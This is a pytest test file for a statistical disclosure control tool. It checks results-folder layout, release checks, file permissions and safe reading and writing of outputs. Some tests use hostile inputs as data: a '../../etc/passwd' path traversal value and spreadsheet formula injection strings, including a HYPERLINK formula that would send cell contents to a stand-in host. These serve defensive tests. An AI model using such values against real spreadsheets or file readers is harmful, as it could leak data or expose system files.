"""finalise: ACRO's results folder, the checks, and table folders release submit accepts."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from fivesafes.errors import OutputError
from fivesafes.outputs import Session, Verdict, read_results
from fivesafes.release.checks import audit_check, differencing_check, rules_check
from fivesafes.release.rulesets import RuleSetting
from fivesafes.release.submission import read_table_dir


@pytest.fixture
def session() -> Session:
    rng = np.random.default_rng(9)
    n = 3000
    df = pd.DataFrame(
        {
            "region": rng.choice(["N", "S", "E", "W"], n, p=[0.5, 0.3, 0.19, 0.01]),
            "sector": rng.choice(["A", "B", "C"], n),
            "pay": rng.lognormal(8, 1, n),
            "x": rng.normal(size=n),
        }
    )
    s = Session(suppress=True, dataset="ashe", area="earnings")
    s.crosstab(df.region, df.sector, margins=True)
    s.crosstab(df.region, df.sector, values=df.pay, aggfunc="sum", margins=True)
    s.crosstab(df.region, df.sector, values=df.pay, aggfunc="mean")
    s.olsr("pay ~ x", data=df)
    s.hist(df, "x", bins=5)
    s.add_exception("output_2", "means for the annex")
    return s


def test_folder_layout_and_checks(session: Session, tmp_path: Path) -> None:
    out = session.finalise(str(tmp_path / "out"))
    names = {p.name for p in out.iterdir()}
    assert {"results.json", "checks.json", "config.json", "checksums", "tables"} <= names
    assert {"output_0_0.csv", "output_3_0.csv"} <= names
    checks = json.loads((out / "checks.json").read_text())
    assert checks["dataset"] == "ashe" and checks["rules"]["safe_threshold"] == 10
    subs = {uid: o["submissions"][0] for uid, o in checks["outputs"].items()}
    assert subs["output_0"]["kind"] == "table" and subs["output_0"]["measure"] == "count"
    assert subs["output_1"]["measure"] == "pay"
    # opened on an area's dataset: release submit proves the source, none is declared
    assert subs["output_1"]["source"] == "ashe:pay" and "--source" not in subs["output_1"]["submit"]
    claim = json.loads((out / "tables" / "output_1" / "source.json").read_text())
    assert (claim["area"], claim["dataset"], claim["measure"]) == ("earnings", "ashe", "pay")
    assert claim["dimensions"] == ["region", "sector"] and claim["values"] == "pay"
    assert set(claim["files"]) == {
        "cells.csv",
        "report.json",
        "spec.toml",
        "table.csv",
        "table.xlsx",
    }
    assert subs["output_2"]["kind"] == "file"  # a mean: a human checks the file
    assert checks["outputs"]["output_2"]["exception"] == "means for the annex"
    digest = (out / "checksums" / "results.json.txt").read_text()
    import hashlib

    assert digest == hashlib.sha256((out / "results.json").read_bytes()).hexdigest()


def test_table_folders_pass_the_release_checks(session: Session, tmp_path: Path) -> None:
    out = session.finalise(str(tmp_path / "out"))
    org = RuleSetting("standard", 1, {"threshold": 7, "dominance": [[2, 90.0]], "p_percent": 10.0})
    for name, measure in (("output_0", "count"), ("output_1", "pay")):
        table = read_table_dir(out / "tables" / name)  # what `release submit FOLDER` reads
        assert table.measure == measure
        assert audit_check(table).verdict.name == "PASS"
        verdict = rules_check(dict(table.report["rules"]), org).verdict.name
        assert verdict == ("PASS" if measure == "pay" else "FAIL")  # counts have no dominance
        assert differencing_check(table.output_table(name), []).verdict.name == "PASS"


def test_results_round_trip(session: Session, tmp_path: Path) -> None:
    out = session.finalise(str(tmp_path / "out"))
    loaded = {o.uid: o for o in read_results(out)}
    assert list(loaded) == list(session.outputs)
    for uid, o in session.outputs.items():
        assert loaded[uid].status is o.status
        assert loaded[uid].summary == o.summary
    table = loaded["output_0"].output[0]
    assert isinstance(table, pd.DataFrame) and table.isna().to_numpy().any()
    assert loaded["output_4"].output[0].suffix == ".png"


def test_every_file_is_its_owners_alone_whatever_the_umask(
    session: Session, tmp_path: Path
) -> None:
    # 0600 files, not only a 0700 folder: a file copied or moved out of it keeps its mode
    old = os.umask(0o022)  # the usual umask: a plain open gives 0644, a mkdir 0755
    try:
        out = session.finalise(str(tmp_path / "out"))
    finally:
        os.umask(old)
    modes = {p.relative_to(out).as_posix(): stat.S_IMODE(p.lstat().st_mode) for p in out.rglob("*")}
    assert "results.json" in modes and "tables/output_1/report.json" in modes
    want = {name: 0o700 if (out / name).is_dir() else 0o600 for name in modes}
    wrong = {name: oct(m) for name, m in modes.items() if m != want[name]}
    assert wrong == {}
    assert stat.S_IMODE(out.stat().st_mode) == 0o700


def test_the_parents_finalise_makes_are_its_owners_alone_whatever_the_umask(
    session: Session, tmp_path: Path
) -> None:
    """Before: the folders made on the way to the target took the umask's mode (0777 under
    umask 0): anyone could list them, or swap the target's parent for a link of theirs.
    Folders that existed already keep their mode."""
    os.chmod(tmp_path, 0o755)
    old = os.umask(0)
    try:
        out = session.finalise(str(tmp_path / "runs" / "2026" / "out"))
    finally:
        os.umask(old)
    for folder in (tmp_path / "runs", tmp_path / "runs" / "2026", out):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
    assert stat.S_IMODE(tmp_path.stat().st_mode) == 0o755


def test_finalise_refuses_an_existing_folder(session: Session, tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    with pytest.raises(OutputError, match="already exists"):
        session.finalise(str(tmp_path / "out"))


def test_a_failure_leaves_nothing_half_written(
    session: Session, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import fivesafes.outputs.finalise as fin

    def broken(*args: object, **kwargs: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(fin, "write_table_folder", broken)
    with pytest.raises(OSError, match="disk full"):
        session.finalise(str(tmp_path / "out"))
    assert list(tmp_path.iterdir()) == []


def test_reads_an_acro_results_file_and_rejects_paths_out_of_it(tmp_path: Path) -> None:
    folder = tmp_path / "acro"
    folder.mkdir()
    pd.DataFrame({"a": [1, 2]}).to_csv(folder / "output_0_0.csv")
    doc = {
        "version": "1.0.2",
        "results": {
            "output_0": {
                "uid": "output_0",
                "status": "review",
                "type": "table",
                "properties": {"method": "crosstab"},
                "files": [{"name": "output_0_0.csv", "sdc": {"summary": {}}}],
                "outcome": {},
                "command": "acro.crosstab(...)",
                "summary": "review",
                "timestamp": "2026-01-01T00:00:00",
                "comments": [],
                "exception": "",
            },
            "output_1": {"uid": "output_1", "status": "weird", "files": []},
        },
    }
    (folder / "results.json").write_text(json.dumps(doc))
    loaded = read_results(folder)
    assert loaded[0].status is Verdict.REVIEW and loaded[1].status is Verdict.FAIL  # fail closed
    doc["results"]["output_0"]["files"] = [{"name": "../../etc/passwd", "sdc": {}}]
    (folder / "results.json").write_text(json.dumps(doc))
    from fivesafes.errors import DataError

    with pytest.raises(DataError, match="not in"):
        read_results(folder)


def test_codes_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
    """An output checker opens the CSVs in a spreadsheet: a code must not run as a formula."""
    df = pd.DataFrame(
        {"a": ['=HYPERLINK("http://x")'] * 20 + ["@SUM(A1)"] * 20, "b": ["+1", "-2"] * 20}
    )
    s = Session()
    s.crosstab(df.a, df.b)
    out = s.finalise(str(tmp_path / "out"))
    text = (out / "output_0_0.csv").read_text()
    assert "'=HYPERLINK" in text and "'@SUM" in text and "'+1" in text and "'-2" in text
    for line in text.splitlines():
        assert not line.startswith(("=", "@", "+", "-"))


def test_without_an_area_the_source_is_declared(tmp_path: Path) -> None:
    df = pd.DataFrame({"a": ["x", "y"] * 20, "b": ["p", "q", "r", "s"] * 10})
    s = Session(suppress=True)
    s.crosstab(df.a, df.b, margins=True)
    out = s.finalise(str(tmp_path / "out"))
    sub = json.loads((out / "checks.json").read_text())["outputs"]["output_0"]["submissions"][0]
    assert not sub["source_verified_at_submission"]
    assert "--area AREA --source DATASET:count" in sub["submit"]
    assert not (out / "tables" / "output_0" / "source.json").exists()


def test_a_table_folders_cells_csv_runs_no_formula(tmp_path: Path) -> None:
    """The folder ``release submit`` takes holds cells.csv, which the output checker opens:
    a code from the researcher's data must not run there, and must come back exactly."""
    import csv

    from fivesafes.sdc.formats.injection import TRIGGERS, is_number_text

    hyperlink = '=HYPERLINK("http://x/?"&C2,"click")'
    codes = [hyperlink, "@SUM(A1)", "'=quoted", "-1"]
    df = pd.DataFrame({"a": codes * 10, "b": ["p", "q"] * 20})
    s = Session(suppress=True)
    s.crosstab(df.a, df.b, margins=True)
    folder = s.finalise(str(tmp_path / "out")) / "tables" / "output_0"
    with (folder / "cells.csv").open(newline="", encoding="utf-8") as fh:
        found = [f for row in csv.reader(fh) for f in row]
    assert not [f for f in found if f.startswith(TRIGGERS) and not is_number_text(f)]
    assert "'" + hyperlink in found and "''=quoted" in found
    table = read_table_dir(folder)  # what `release submit FOLDER` reads
    assert set(codes) <= set(table.cells["a"])
